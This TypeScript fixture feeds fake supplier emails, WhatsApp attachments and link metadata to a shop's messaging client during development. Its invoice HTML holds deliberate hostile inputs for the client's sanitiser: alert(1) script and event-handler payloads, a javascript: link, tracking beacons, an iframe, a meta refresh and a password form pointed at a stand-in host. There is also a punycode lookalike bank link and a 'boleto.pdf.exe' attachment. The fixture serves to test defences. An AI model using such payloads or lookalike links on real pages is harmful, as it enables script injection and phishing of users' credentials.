import type { FileKind, FilesDesk, LettersDesk, LetterView, LinkView } from "./letterTypes";
import type { Attachment, TimelineItem } from "./types";

// Mails and files of the shop in memory. The HTML is what Go gives, and beside it what Go would never let through,
// so that the page's own filter has something to do.

/** A picture of a colour, as an address. */
function drawn(colour: string, words: string): string {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800"><rect width="1200" height="800" fill="${colour}"/><text x="600" y="440" font-size="120" text-anchor="middle" fill="#fff" font-family="sans-serif">${words}</text></svg>`;
  return `data:image/svg+xml,${encodeURIComponent(svg)}`;
}

const dot =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8Dwn4EIAAAeBAH/o5Vn3QAAAABJRU5ErkJggg==";

export function fakeFile(id: string, name: string, kind: FileKind, more: Partial<Attachment> = {}): Attachment {
  const shown = kind === "picture" || kind === "sound" || kind === "film";
  const url = shown ? (kind === "picture" ? drawn("#27424b", name) : `fake:${kind}`) : "";
  return {
    id,
    name,
    kind,
    type: "application/octet-stream",
    size: 240_000,
    here: true,
    inline: false,
    url,
    small: kind === "picture" ? url : "",
    ...more,
  };
}

const invoice = `<script>alert(1)</script><p onclick="alert(1)">Prezada Célia,</p>
<p>segue o resumo do pedido <b>4471</b>. <a href="/open?u=fake-0" target="sink" rel="noopener">Ver o pedido</a></p>
<table border="1" cellpadding="6" cellspacing="0" width="100%"><tr bgcolor="#e6f0f2"><th align="left">Item</th><th align="right">Valor</th></tr>
<tr><td>Papel sulfite A4, 10 caixas</td><td align="right">R$ 1.890,00</td></tr><tr><td>Cola branca 1 kg, 24 unidades</td><td align="right">R$ 312,00</td></tr></table>
<p><img data-remote="0" alt="Promoção de volta às aulas" width="480" height="120"><img src="https://rastro.example/abrir.gif" onerror="alert(1)"></p>
<p style="position:fixed;background:url(https://rastro.example/x)">Pague só por <a href="/open?u=fake-1" target="sink" rel="noopener">www.bancodobrasil.com.br</a> ou
<a href="javascript:alert(1)">aqui</a>, ou <a href="/open?u=fake-2" target="sink">escreva</a>.</p>
<meta http-equiv="refresh" content="0;url=https://rastro.example/"><iframe src="https://rastro.example/"></iframe><form action="https://rastro.example/"><input name="senha"></form>
<div><div>Em qua., 3 de jun. de 2026, Papelaria escreveu:</div><blockquote>Boa tarde, podem mandar o resumo do pedido?<br>Obrigada, Célia</blockquote></div>`;

const links: Record<string, LinkView> = {
  "fake-0": {
    url: "https://pedidos.distribuidora.com.br/4471?cliente=sabia",
    kind: "web",
    host: "pedidos.distribuidora.com.br",
    readable: "",
    text: "Ver o pedido",
    flags: [],
  },
  "fake-1": {
    url: "https://xn--bancodobrsil-08a.example/entrar",
    kind: "web",
    host: "xn--bancodobrsil-08a.example",
    readable: "bancodobrásil.example",
    text: "www.bancodobrasil.com.br",
    flags: ["other_host", "punycode"],
  },
  "fake-2": {
    url: "mailto:vendas@distribuidora.com.br",
    kind: "mail",
    host: "vendas@distribuidora.com.br",
    readable: "",
    text: "escreva",
    flags: [],
  },
};

/** What a supplier and a customer with many files have sent, oldest first. */
export function fakeLetterItems(now: number): TimelineItem[] {
  const minute = 60_000;
  const base = (id: string, at: number, more: Partial<TimelineItem>): TimelineItem => ({
    kind: "message",
    id,
    at,
    cc: "",
    channel: "email",
    direction: "in",
    from: "vendas@distribuidora.com.br",
    subject: "",
    text: "",
    quoted: "",
    rich: false,
    placeholder: "",
    auto: "",
    damaged: false,
    caseId: "",
    protocol: "",
    rule: "",
    campaign: "",
    medium: "",
    delivery: null,
    attachments: [],
    ...more,
  });
  return [
    base("letter-1", now - 90 * minute, {
      subject: "Tabela de preços",
      text: "Prezada Célia,\n\nsegue a tabela. Dúvidas em https://www.distribuidora.com.br/ajuda (horário comercial).",
      quoted: "\n\nEm seg., 1 de jun. de 2026, Papelaria Sabiá escreveu:\n> Podem mandar a tabela nova?\n> Célia",
      rich: true,
      attachments: [
        fakeFile("file-1", "tabela-junho.pdf", "document", { type: "application/pdf", size: 1_240_000 }),
        fakeFile("file-2", "boleto.pdf.exe", "danger", { size: 88_000 }),
        fakeFile("file-3", "nfe-4471.xml", "other", { type: "text/xml", size: 12_000 }),
      ],
    }),
    base("letter-2", now - 70 * minute, {
      channel: "whatsapp",
      text: "As cores que temos",
      attachments: [
        fakeFile("file-4", "azul", "picture"),
        fakeFile("file-5", "verde", "picture", { url: drawn("#0f7757", "verde"), small: drawn("#0f7757", "verde") }),
        fakeFile("file-6", "vinho", "picture", { url: drawn("#80205f", "vinho"), small: drawn("#80205f", "vinho") }),
      ],
    }),
    base("letter-3", now - 60 * minute, {
      channel: "whatsapp",
      attachments: [fakeFile("file-7", "", "sound", { type: "audio/ogg", size: 31_000 })],
    }),
    base("letter-4", now - 55 * minute, {
      channel: "whatsapp",
      text: "Olha a amostra",
      attachments: [fakeFile("file-8", "amostra.jpg", "picture")],
    }),
    base("letter-5", now - 40 * minute, {
      subject: "Resumo do pedido 4471",
      text: "Prezada Célia,\n\nsegue o resumo do pedido 4471.",
      quoted: "\n\nEm qua., 3 de jun. de 2026, Papelaria escreveu:\n> Boa tarde, podem mandar o resumo do pedido?",
      rich: true,
    }),
  ];
}

/** A moment of sound, as a file that any browser plays. */
function beep(): Blob {
  const rate = 8000;
  const bytes = new DataView(new ArrayBuffer(44 + rate));
  const word = (at: number, text: string) => [...text].forEach((c, i) => bytes.setUint8(at + i, c.charCodeAt(0)));
  word(0, "RIFF");
  bytes.setUint32(4, 36 + rate, true);
  word(8, "WAVEfmt ");
  bytes.setUint32(16, 16, true);
  bytes.setUint16(20, 1, true);
  bytes.setUint16(22, 1, true);
  bytes.setUint32(24, rate, true);
  bytes.setUint32(28, rate, true);
  bytes.setUint16(32, 1, true);
  bytes.setUint16(34, 8, true);
  word(36, "data");
  bytes.setUint32(40, rate, true);
  for (let i = 0; i < rate; i++) bytes.setUint8(44 + i, 128 + Math.round(40 * Math.sin(i / 3)));
  return new Blob([bytes.buffer], { type: "audio/wav" });
}

export function fakeFiles(): FilesDesk {
  return { open: async () => undefined, bytes: async () => beep() };
}

export function fakeLetters(): LettersDesk {
  let view: LetterView = {
    url: "fake:blocked",
    remote: 1,
    pictures: false,
    trusted: false,
    sender: "vendas@distribuidora.com.br",
  };
  const listeners = new Set<(token: string) => void>();
  import.meta.hot?.on("balcao:link", ({ token }: { token: string }) => {
    for (const listener of listeners) listener(token);
  });
  const become = async (change: Partial<LetterView>) => {
    view = { ...view, ...change };
    return view;
  };
  return {
    open: async () => view,
    showPictures: (_, always) => become({ url: "fake:shown", pictures: true, trusted: view.trusted || always }),
    hidePictures: () => become({ url: "fake:blocked", pictures: false, trusted: false }),
    html: async ({ pictures }) => (pictures ? invoice.replace("<img data", `<img src="${dot}" data`) : invoice),
    link: async (token) => {
      const link = links[token];
      if (!link) throw new Error(JSON.stringify({ code: "not_found", params: { kind: "link" } }));
      return link;
    },
    inspect: async (address) => ({
      url: address,
      kind: "web",
      host: new URL(address).hostname,
      readable: "",
      text: address,
      flags: [],
    }),
    copy: async () => undefined,
    // In the development server a plugin of vite.config.ts plays the part of Go.
    onLink: (listener) => {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  };
}
